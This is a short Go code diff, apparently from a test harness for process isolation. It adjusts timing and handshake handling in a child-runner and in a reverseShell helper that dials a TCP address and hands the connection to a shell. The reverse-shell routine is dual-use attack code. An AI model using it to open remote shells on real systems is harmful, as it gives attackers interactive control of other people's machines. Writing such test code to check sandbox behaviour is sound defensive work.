@@ -84,6 +84,9 @@ func child(args []string) error {
 	c := exec.Command(args[0], args[1:]...)
 	c.Stdin, c.Stdout, c.Stderr = os.Stdin, os.Stdout, os.Stderr
 	err := c.Run()
+	if slices.Contains(args, "shell") {
+		time.Sleep(300 * time.Millisecond) // its peer, which ends with us, writes down what it received
+	}
 	var exit *exec.ExitError
 	if errors.As(err, &exit) {
 		fmt.Println("child", exit.ProcessState)
@@ -144,6 +147,11 @@ func drop(args []string) error {
 func reverseShell(args []string) error {
 	c, err := net.Dial("tcp", args[0])
 	if err != nil {
+		return err
+	}
+	// Closing with unread bytes would send a reset, which takes back what the
+	// shell said.
+	if _, err := io.ReadFull(c, make([]byte, len("hello"))); err != nil {
 		return err
 	}
 	f, err := c.(*net.TCPConn).File()
